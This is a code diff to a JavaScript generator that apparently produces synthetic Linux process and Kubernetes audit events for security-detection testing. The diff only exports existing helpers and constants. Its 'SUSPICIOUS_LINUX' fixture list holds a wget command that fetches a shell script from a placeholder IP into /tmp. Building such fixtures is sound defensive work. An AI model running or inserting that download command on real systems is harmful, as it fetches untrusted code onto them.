@@ -13,8 +13,8 @@ export function prng(seed) {
   };
 }
 
-const pick = (r, xs) => xs[Math.floor(r() * xs.length)];
-const hex = (r, n) => Array.from({ length: n }, () => Math.floor(r() * 16).toString(16)).join('');
+export const pick = (r, xs) => xs[Math.floor(r() * xs.length)];
+export const hex = (r, n) => Array.from({ length: n }, () => Math.floor(r() * 16).toString(16)).join('');
 const time = (i) => new Date(Date.UTC(2026, 2, 4, 5, 0, 0) + i * 37).toISOString();
 
 const LINUX_CMDS = [
@@ -44,7 +44,7 @@ const SUSPICIOUS_LINUX = [
   ['/usr/bin/wget', ['wget', 'http://203.0.113.9/x.sh', '-O', '/tmp/x.sh']],
   ['/usr/bin/crontab', ['crontab', '-l']],
 ];
-const IMAGES = ['nginx:1.27', 'redis:7', 'postgres:16', 'node:20-alpine', 'python:3.12-slim', 'busybox:1.36'];
+export const IMAGES = ['nginx:1.27', 'redis:7', 'postgres:16', 'node:20-alpine', 'python:3.12-slim', 'busybox:1.36'];
 
 export function linuxProcessEvents(n, seed = 1) {
   const r = prng(seed);
@@ -109,9 +109,9 @@ export function linuxProcessEvents(n, seed = 1) {
   return out;
 }
 
-const VERBS = ['get', 'list', 'watch', 'get', 'list', 'watch', 'create', 'update', 'patch', 'delete'];
-const RESOURCES = ['pods', 'configmaps', 'secrets', 'deployments', 'services', 'endpoints', 'leases', 'events', 'nodes', 'serviceaccounts'];
-const USERS = [
+export const VERBS = ['get', 'list', 'watch', 'get', 'list', 'watch', 'create', 'update', 'patch', 'delete'];
+export const RESOURCES = ['pods', 'configmaps', 'secrets', 'deployments', 'services', 'endpoints', 'leases', 'events', 'nodes', 'serviceaccounts'];
+export const USERS = [
   'system:serviceaccount:kube-system:coredns',
   'system:kube-scheduler',
   'system:node:node-1',
